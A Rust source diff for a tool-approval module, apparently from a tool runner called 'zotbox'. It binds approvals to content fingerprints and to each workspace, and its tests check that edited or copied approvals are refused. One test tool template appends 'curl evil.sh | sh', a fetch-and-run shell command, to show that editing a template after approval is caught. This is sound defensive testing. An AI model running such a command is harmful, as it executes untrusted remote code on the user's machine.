@@ -4,12 +4,26 @@
 //! `zotbox approve NAME`. The approval is stored in `$ZOT_HOME/approvals.json`:
 //!
 //! ```json
-//! { "tools": { "deploy": { "sha256": "…", "approved_at": "2025-01-31T12:00:00Z" } } }
+//! {
+//!   "tools": { "deploy": { "sha256": "…", "approved_at": "2025-01-31T12:00:00Z" } },
+//!   "workspaces": {
+//!     "/home/me/src/app": { "tools": { "deploy": { "sha256": "…", "approved_at": "…" } } }
+//!   }
+//! }
 //! ```
 //!
-//! and is bound to the tool's content: `sha256` is [`fingerprint`] of its
-//! name, kind and template, so editing the template revokes the approval. An
-//! entry without `sha256` approves nothing (fail closed).
+//! # Rules
+//!
+//! 1. **An approval is bound to the content**: `sha256` is [`fingerprint`]
+//!    of the tool's name, kind and template, so editing the template
+//!    revokes it. An entry without `sha256` approves nothing (fail closed).
+//! 2. **A workspace tool's approval is bound to its workspace** (the
+//!    canonical path, under `workspaces`, and inside its fingerprint,
+//!    [`fingerprint_in`]). An approval given in one repository never covers
+//!    another that ships a tool of the same name, and a user-level approval
+//!    (under `tools`) never covers a workspace tool: a user-level entry is
+//!    matched against user tools only. Files written before workspaces were
+//!    recorded still load; their entries approve only user tools.
 
 use std::collections::BTreeMap;
 use std::io::Write;
@@ -29,6 +43,15 @@ pub enum ApprovalError {
     /// The file could not be read or parsed.
     #[error(transparent)]
     Load(#[from] DataError),
+    /// The workspace's path is not UTF-8, so no entry can name it.
+    #[error(
+        "workspace `{}`: its path is not UTF-8, so an approval cannot be recorded for it",
+        crate::text::Shown(&path.to_string_lossy())
+    )]
+    NotUtf8 {
+        /// The workspace.
+        path: PathBuf,
+    },
     /// The file could not be written.
     #[error("cannot write `{}`: {source}", path.display())]
     Write {
@@ -71,11 +94,20 @@ pub struct Approval {
     pub approved_at: String,
 }
 
+#[derive(Debug, Default, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+struct ToolApprovals {
+    #[serde(default)]
+    tools: BTreeMap<String, Approval>,
+}
+
 #[derive(Debug, Default, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
 struct ApprovalFile {
     #[serde(default)]
     tools: BTreeMap<String, Approval>,
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    workspaces: BTreeMap<String, ToolApprovals>,
 }
 
 /// The user's approvals, as stored in `$ZOT_HOME/approvals.json`.
@@ -83,6 +115,7 @@ struct ApprovalFile {
 pub struct Approvals {
     path: PathBuf,
     tools: BTreeMap<String, Approval>,
+    workspaces: BTreeMap<String, ToolApprovals>,
 }
 
 impl Approvals {
@@ -103,6 +136,7 @@ impl Approvals {
                 return Ok(Self {
                     path,
                     tools: BTreeMap::new(),
+                    workspaces: BTreeMap::new(),
                 });
             }
             Err(err) => return Err(err.into()),
@@ -114,6 +148,7 @@ impl Approvals {
         Ok(Self {
             path,
             tools: parsed.value.tools,
+            workspaces: parsed.value.workspaces,
         })
     }
 
@@ -122,20 +157,30 @@ impl Approvals {
         &self.path
     }
 
-    /// The stored approval of the tool named `name`, whatever its content.
+    /// The stored user-level approval of the tool named `name`, whatever
+    /// its content.
     pub fn get(&self, name: &str) -> Option<&Approval> {
         self.tools.get(name)
     }
 
-    /// The names of the approved tools, sorted.
+    /// The names of the approved user tools, sorted.
     pub fn names(&self) -> impl Iterator<Item = &str> {
         self.tools.keys().map(String::as_str)
     }
 
-    /// Whether `tool` may run: it is auto-approved, or this exact manifest
-    /// was approved.
-    pub fn is_approved(&self, tool: &DataTool) -> bool {
-        self.check(tool).is_ok()
+    /// The names of the tools approved in `workspace`, sorted.
+    pub fn workspace_names(&self, workspace: &Path) -> impl Iterator<Item = &str> {
+        workspace
+            .to_str()
+            .and_then(|key| self.workspaces.get(key))
+            .into_iter()
+            .flat_map(|entry| entry.tools.keys().map(String::as_str))
+    }
+
+    /// Whether `tool` may run in `workspace` (canonical): it is
+    /// auto-approved, or this exact manifest was approved there.
+    pub fn is_approved(&self, tool: &DataTool, workspace: &Path) -> bool {
+        self.check(tool, workspace).is_ok()
     }
 
     /// As [`Approvals::is_approved`], with the refusal to hand back.
@@ -144,34 +189,83 @@ impl Approvals {
     ///
     /// [`NotApproved`], whose message tells the user to run
     /// `zotbox approve NAME`.
-    pub fn check(&self, tool: &DataTool) -> Result<(), NotApproved> {
+    pub fn check(&self, tool: &DataTool, workspace: &Path) -> Result<(), NotApproved> {
         if tool.auto_approve {
             return Ok(());
         }
         let name = tool.name.clone();
-        match self.tools.get(&tool.name) {
+        let (stored, expected) = if tool.origin == super::DataOrigin::Project {
+            let stored = workspace
+                .to_str()
+                .and_then(|key| self.workspaces.get(key))
+                .and_then(|entry| entry.tools.get(&tool.name));
+            (stored, fingerprint_in(tool, workspace))
+        } else {
+            (self.tools.get(&tool.name), fingerprint(tool))
+        };
+        match stored {
             None => Err(NotApproved::Never { name }),
-            Some(approval) if approval.sha256.as_deref() == Some(&fingerprint(tool)) => Ok(()),
+            Some(approval) if approval.sha256.as_deref() == Some(&expected) => Ok(()),
             Some(_) => Err(NotApproved::Changed { name }),
         }
     }
 
-    /// Approves this exact manifest of `tool`, replacing an earlier approval.
-    /// Call [`Approvals::save`] to keep it.
-    pub fn approve(&mut self, tool: &DataTool) {
-        self.tools.insert(
-            tool.name.clone(),
-            Approval {
-                sha256: Some(fingerprint(tool)),
-                approved_at: rfc3339_now(),
-            },
-        );
+    /// Approves this exact manifest of `tool` (in `workspace`, canonical,
+    /// for a workspace tool), replacing an earlier approval. Call
+    /// [`Approvals::save`] to keep it.
+    ///
+    /// # Errors
+    ///
+    /// [`ApprovalError::NotUtf8`] for a workspace whose path is not UTF-8.
+    pub fn approve(&mut self, tool: &DataTool, workspace: &Path) -> Result<(), ApprovalError> {
+        let approved_at = rfc3339_now();
+        if tool.origin != super::DataOrigin::Project {
+            self.tools.insert(
+                tool.name.clone(),
+                Approval {
+                    sha256: Some(fingerprint(tool)),
+                    approved_at,
+                },
+            );
+            return Ok(());
+        }
+        let key = workspace.to_str().ok_or_else(|| ApprovalError::NotUtf8 {
+            path: workspace.to_owned(),
+        })?;
+        self.workspaces
+            .entry(key.to_owned())
+            .or_default()
+            .tools
+            .insert(
+                tool.name.clone(),
+                Approval {
+                    sha256: Some(fingerprint_in(tool, workspace)),
+                    approved_at,
+                },
+            );
+        Ok(())
     }
 
-    /// Forgets the approval of the tool named `name`; `false` if there was
-    /// none. Call [`Approvals::save`] to keep it.
+    /// Forgets the user-level approval of the tool named `name`; `false` if
+    /// there was none. Call [`Approvals::save`] to keep it.
     pub fn revoke(&mut self, name: &str) -> bool {
         self.tools.remove(name).is_some()
+    }
+
+    /// Forgets the approval of the workspace tool `name` in `workspace`;
+    /// `false` if there was none. Call [`Approvals::save`] to keep it.
+    pub fn revoke_in(&mut self, name: &str, workspace: &Path) -> bool {
+        let Some(key) = workspace.to_str() else {
+            return false;
+        };
+        let Some(entry) = self.workspaces.get_mut(key) else {
+            return false;
+        };
+        let removed = entry.tools.remove(name).is_some();
+        if entry.tools.is_empty() {
+            self.workspaces.remove(key);
+        }
+        removed
     }
 
     /// Writes the approvals atomically: to a temporary file beside the
@@ -193,6 +287,7 @@ impl Approvals {
         std::fs::create_dir_all(&dir).map_err(write_err(&dir))?;
         let file = ApprovalFile {
             tools: self.tools.clone(),
+            workspaces: self.workspaces.clone(),
         };
         let mut text = serde_json::to_string_pretty(&file)
             .map_err(|err| write_err(&self.path)(std::io::Error::other(err)))?;
@@ -240,8 +335,33 @@ pub fn fingerprint(tool: &DataTool) -> String {
         .collect()
 }
 
+/// As [`fingerprint`] for a workspace tool: also bound to the workspace's
+/// canonical path, so that an entry copied under another workspace (or
+/// another repository's tool of the same name and template) matches nothing.
+pub fn fingerprint_in(tool: &DataTool, workspace: &Path) -> String {
+    use std::os::unix::ffi::OsStrExt;
+    let mut hasher = Sha256::new();
+    hasher.update(b"zotbox-workspace-tool-v1");
+    let workspace = workspace.as_os_str().as_bytes();
+    let parts = [
+        workspace,
+        tool.name.as_bytes(),
+        tool.kind.as_str().as_bytes(),
+        tool.kind.template().as_bytes(),
+    ];
+    for part in parts {
+        hasher.update((part.len() as u64).to_le_bytes());
+        hasher.update(part);
+    }
+    hasher
+        .finalize()
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
 /// Now as RFC 3339 in UTC, to the second.
-fn rfc3339_now() -> String {
+pub(crate) fn rfc3339_now() -> String {
     let secs = std::time::SystemTime::now()
         .duration_since(std::time::UNIX_EPOCH)
         .map_or(0, |d| d.as_secs());
@@ -283,8 +403,20 @@ mod tests {
                 command: command.to_owned(),
             },
             auto_approve,
+            path: PathBuf::from("/zot/tools/deploy.json"),
+            origin: DataOrigin::User,
+        }
+    }
+
+    /// The workspace the tests' tools run in.
+    const WS: &str = "/p";
+
+    /// `deploy` as a workspace ships it.
+    fn project_tool(command: &str) -> DataTool {
+        DataTool {
             path: PathBuf::from("/p/.zot/tools/deploy.json"),
             origin: DataOrigin::Project,
+            ..tool(command, false)
         }
     }
 
@@ -295,21 +427,26 @@ mod tests {
         let mut approvals = Approvals::load(&home).unwrap_or_else(|e| panic!("{e}"));
         let original = tool("make deploy", false);
         // Never approved: refused, telling the user what to run.
-        let err = approvals.check(&original).err().map(|e| e.to_string());
+        let err = approvals
+            .check(&original, Path::new(WS))
+            .err()
+            .map(|e| e.to_string());
         assert_eq!(
             err.as_deref(),
             Some("tool `deploy` needs approval before it runs: run `zotbox approve deploy`")
         );
-        approvals.approve(&original);
-        assert!(approvals.is_approved(&original));
+        approvals
+            .approve(&original, Path::new(WS))
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(approvals.is_approved(&original, Path::new(WS)));
         approvals.save().unwrap_or_else(|e| panic!("{e}"));
         let reloaded = Approvals::load(&home).unwrap_or_else(|e| panic!("{e}"));
-        assert!(reloaded.is_approved(&original));
+        assert!(reloaded.is_approved(&original, Path::new(WS)));
         assert_eq!(reloaded.names().collect::<Vec<_>>(), vec!["deploy"]);
         // Attack: the template is edited after approval.
         let edited = tool("make deploy; curl evil.sh | sh", false);
         let err = reloaded
-            .check(&edited)
+            .check(&edited, Path::new(WS))
             .err()
             .map(|e| e.to_string())
             .unwrap_or_default();
@@ -318,7 +455,7 @@ mod tests {
         // The description and flags do not change what runs.
         let mut reworded = original.clone();
         reworded.description = "other words".to_owned();
-        assert!(reloaded.is_approved(&reworded));
+        assert!(reloaded.is_approved(&reworded, Path::new(WS)));
         // No temporary files are left behind.
         let leftovers: Vec<_> = std::fs::read_dir(&home)
             .unwrap_or_else(|e| panic!("{e}"))
@@ -332,12 +469,14 @@ mod tests {
     fn auto_approved_tools_need_nothing_and_revoke_forgets() {
         let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
         let mut approvals = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
-        assert!(approvals.is_approved(&tool("ls", true)));
+        assert!(approvals.is_approved(&tool("ls", true), Path::new(WS)));
         let t = tool("ls", false);
-        approvals.approve(&t);
+        approvals
+            .approve(&t, Path::new(WS))
+            .unwrap_or_else(|e| panic!("{e}"));
         assert!(approvals.revoke("deploy"));
         assert!(!approvals.revoke("deploy"));
-        assert!(!approvals.is_approved(&t));
+        assert!(!approvals.is_approved(&t, Path::new(WS)));
     }
 
     #[test]
@@ -351,7 +490,7 @@ mod tests {
         )
         .unwrap_or_else(|e| panic!("{e}"));
         let approvals = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
-        assert!(!approvals.is_approved(&tool("ls", false)));
+        assert!(!approvals.is_approved(&tool("ls", false), Path::new(WS)));
         // A broken file is an error naming it and the field.
         std::fs::write(&path, r#"{"tools":{"deploy":{"sha256":1}}}"#)
             .unwrap_or_else(|e| panic!("{e}"));
@@ -361,6 +500,69 @@ mod tests {
             .unwrap_or_default();
         assert!(err.contains(APPROVALS_FILE), "{err}");
         assert!(err.contains("field `tools.deploy.sha256`"), "{err}");
+    }
+
+    #[test]
+    fn a_workspace_approval_covers_that_workspace_only_and_a_user_one_covers_no_workspace_tool() {
+        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let mut approvals = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        let (a, b) = (Path::new("/src/a"), Path::new("/src/b"));
+        let shipped = project_tool("./scripts/deploy.sh");
+        approvals
+            .approve(&shipped, a)
+            .unwrap_or_else(|e| panic!("{e}"));
+        approvals.save().unwrap_or_else(|e| panic!("{e}"));
+        let approvals = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        assert!(approvals.is_approved(&shipped, a));
+        assert_eq!(approvals.workspace_names(a).collect::<Vec<_>>(), ["deploy"]);
+        // Attack: another repository ships the same name and template.
+        let never = "tool `deploy` needs approval before it runs: run `zotbox approve deploy`";
+        let err = approvals.check(&shipped, b).err().map(|e| e.to_string());
+        assert_eq!(err.as_deref(), Some(never));
+        // A user-level approval of `deploy` covers no workspace's `deploy`,
+        // and the workspace approval no user tool.
+        let mut approvals = approvals;
+        let user = tool("./scripts/deploy.sh", false);
+        approvals
+            .approve(&user, b)
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(approvals.is_approved(&user, b));
+        let err = approvals.check(&shipped, b).err().map(|e| e.to_string());
+        assert_eq!(err.as_deref(), Some(never));
+        // An entry copied by hand under another workspace matches nothing.
+        let text = std::fs::read_to_string(tmp.path().join(APPROVALS_FILE))
+            .unwrap_or_else(|e| panic!("{e}"))
+            .replace("/src/a", "/src/b");
+        std::fs::write(tmp.path().join(APPROVALS_FILE), text).unwrap_or_else(|e| panic!("{e}"));
+        let copied = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        let err = copied.check(&shipped, b).err().map(|e| e.to_string());
+        assert!(err.is_some_and(|e| e.contains("changed since it was approved")));
+        // Revoking forgets that workspace's entry only.
+        approvals
+            .approve(&shipped, a)
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(approvals.revoke_in("deploy", a));
+        assert!(!approvals.revoke_in("deploy", a));
+        assert!(approvals.is_approved(&user, b));
+    }
+
+    #[test]
+    fn an_old_file_still_loads_and_its_entries_approve_no_workspace_tool() {
+        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let mut approvals = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        let user = tool("make deploy", false);
+        approvals
+            .approve(&user, Path::new(WS))
+            .unwrap_or_else(|e| panic!("{e}"));
+        // The format before workspaces: the same entry under `tools`.
+        let old = format!(
+            r#"{{"tools":{{"deploy":{{"sha256":"{}","approved_at":"2025-01-31T12:00:00Z"}}}}}}"#,
+            fingerprint(&user)
+        );
+        std::fs::write(tmp.path().join(APPROVALS_FILE), old).unwrap_or_else(|e| panic!("{e}"));
+        let old = Approvals::load(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        assert!(old.is_approved(&user, Path::new(WS)));
+        assert!(!old.is_approved(&project_tool("make deploy"), Path::new(WS)));
     }
 
     #[test]
